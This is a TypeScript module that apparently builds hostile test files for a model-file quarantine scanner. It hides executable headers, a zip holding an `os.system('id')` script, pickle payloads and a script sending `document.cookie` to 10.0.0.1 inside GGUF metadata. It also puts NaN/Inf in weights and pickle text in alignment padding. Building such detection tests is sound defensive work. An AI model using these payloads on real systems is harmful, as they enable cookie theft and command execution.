/**
 * Structurally valid files that carry something else: executables and scripts in
 * GGUF metadata strings, NaN/Inf where weights should be, bytes in alignment padding.
 * The parsers accept all of these; the metadata and weights checks must not.
 */
import { buildSafetensors, type TensorSpec } from '@keep/quarantine/testdata';
import { BASE_METADATA, BASE_TENSORS, baseGguf, finiteTensorData } from './benign-models.js';
import { ascii, hostile, type CorpusCase } from './corpus-entry.js';
import { alignUp, tensorInfo } from './gguf-patch.js';
import { pickle } from './pickle-bytes.js';
import { crc32, storedZip } from './stored-zip.js';

const g = (name: string, attack: string, expect: string, bytes: Uint8Array): CorpusCase => hostile(`${name}.gguf`, attack, expect, bytes);

/** An x86-64 ELF header; every byte below 0x80, so it is a valid UTF-8 string. */
function elfHeader(): string {
  const b = new Uint8Array(64);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0); // magic, 64-bit, little-endian, SysV
  b.set([2, 0, 0x3e, 0, 1, 0, 0, 0], 16); // ET_EXEC, x86-64, version 1
  b.set([0x00, 0x10, 0x40], 24); // entry 0x401000
  b.set([0x40], 32); // program headers at 64
  b.set([0x40, 0, 0x38, 0, 1, 0], 52); // ehsize, phentsize, phnum
  return String.fromCharCode(...b);
}

/** A DOS stub and PE signature for i386 (machine 0x014c, so the bytes stay ASCII). */
function peHeader(): string {
  const b = new Uint8Array(0x58);
  b.set(ascii('MZ'), 0);
  b.set([0x40], 0x3c); // e_lfanew
  b.set(ascii('PE\0\0'), 0x40);
  b.set([0x4c, 0x01, 1, 0], 0x44);
  return String.fromCharCode(...b) + 'This program cannot be run in DOS mode.';
}

/** A zip local header plus entry, content chosen so the CRC bytes stay below 0x80 (valid UTF-8). */
function zipText(): string {
  for (let n = 0; ; n++) {
    const data = ascii(`import os; os.system('id') # ${n}`);
    const crc = crc32(data);
    if ([0, 8, 16, 24].every((shift) => ((crc >>> shift) & 0xff) < 0x80)) return String.fromCharCode(...storedZip([{ name: 'run.py', data }]));
  }
}

function metadataPayloads(): CorpusCase[] {
  const meta = (name: string, key: string, value: string): CorpusCase =>
    g(`metadata-${name}`, `metadata-${name}`, 'metadata.', baseGguf({ metadata: [...BASE_METADATA, [key, { type: 'string', value }]] }));
  return [
    meta('elf', 'general.description', elfHeader()),
    meta('pe', 'general.license', peHeader()),
    meta('zip', 'general.source.url', zipText()),
    meta('html-script', 'general.name.display', '<html><body><script>fetch("http://10.0.0.1/x?c="+document.cookie)</script></body></html>'),
    meta('pickle', 'general.notes', new TextDecoder().decode(pickle(0, 'os-system'))),
    g('metadata-pickle-in-array', 'metadata-pickle', 'metadata.',
      baseGguf({ metadata: [...BASE_METADATA, ['general.tags', { type: 'array', itemType: 'string', values: ['chat', new TextDecoder().decode(pickle(0, 'builtin-eval'))] }]] })),
  ];
}

/** The base model with one tensor's bytes replaced. */
function withTensorData(name: string, edit: (view: DataView) => void): Uint8Array {
  const tensors = BASE_TENSORS.map((t): TensorSpec => {
    if (t.name !== name) return t;
    const data = finiteTensorData(t.type, t.dims, 9);
    edit(new DataView(data.buffer));
    return { ...t, data };
  });
  return baseGguf({ tensors });
}

function nonFinite(): CorpusCase[] {
  const f32 = (bits: number) => (v: DataView) => v.setUint32(4 * 37, bits, true);
  const f16 = (bits: number) => (v: DataView) => v.setUint16(2 * 11, bits, true);
  // Q8_0 blocks are 34 bytes with the f16 scale first; Q4_K blocks are 144 bytes with d then dmin.
  const q80 = (bits: number) => (v: DataView) => v.setUint16(34, bits, true);
  const q4k = (at: number, bits: number) => (v: DataView) => v.setUint16(at, bits, true);
  return [
    g('f32-nan', 'weights-nan', 'weights.', withTensorData('token_embd.weight', f32(0x7fc00000))),
    g('f32-inf', 'weights-inf', 'weights.', withTensorData('token_embd.weight', f32(0x7f800000))),
    g('f32-minus-inf', 'weights-inf', 'weights.', withTensorData('token_embd.weight', f32(0xff800000))),
    g('f16-nan', 'weights-nan', 'weights.', withTensorData('blk.0.attn_q.weight', f16(0x7e00))),
    g('f16-inf', 'weights-inf', 'weights.', withTensorData('blk.0.attn_q.weight', f16(0x7c00))),
    g('q8_0-scale-nan', 'weights-nan', 'weights.', withTensorData('blk.0.ffn_up.weight', q80(0x7e01))),
    g('q8_0-scale-inf', 'weights-inf', 'weights.', withTensorData('blk.0.ffn_up.weight', q80(0xfc00))),
    g('q4_k-d-nan', 'weights-nan', 'weights.', withTensorData('output.weight', q4k(0, 0x7e00))),
    g('q4_k-dmin-inf', 'weights-inf', 'weights.', withTensorData('output.weight', q4k(2, 0x7c00))),
    hostile('f32-nan.safetensors', 'weights-nan', 'weights.', buildSafetensors({
      tensors: [{ name: 'w', dtype: 'F32', shape: [4], data: new Uint8Array(new Float32Array([0.5, NaN, -0.5, 0.25]).buffer) }],
    })),
  ];
}

/** Alignment padding must be zeros; anything else is room for a payload no loader reads. */
function padding(): CorpusCase[] {
  const base = baseGguf();
  const headerEnd = tensorInfo(base, 'output.weight').end;
  const dataStart = alignUp(headerEnd, 32);
  const filled = (from: number, to: number, text: string): Uint8Array => {
    const out = base.slice();
    out.set(ascii(text.repeat(to - from).slice(0, to - from)), from);
    return out;
  };
  // The Q8_0 tensor is 136 bytes at 768: padding runs from 904 to 928.
  const afterQ8 = dataStart + 904;
  if (headerEnd === dataStart) throw new TypeError('The base model needs header padding for this case');
  return [
    g('padding-after-header', 'weights-nonzero-padding', 'weights.', filled(headerEnd, dataStart, 'A')),
    g('padding-between-tensors', 'weights-nonzero-padding', 'weights.', filled(afterQ8, afterQ8 + 24, 'cos\nsystem\n')),
    g('padding-after-last-tensor', 'weights-nonzero-padding', 'weights.', filled(base.length - 16, base.length, '\x7fELF')),
  ];
}

export function payloadCases(): CorpusCase[] {
  return [...metadataPayloads(), ...nonFinite(), ...padding()];
}
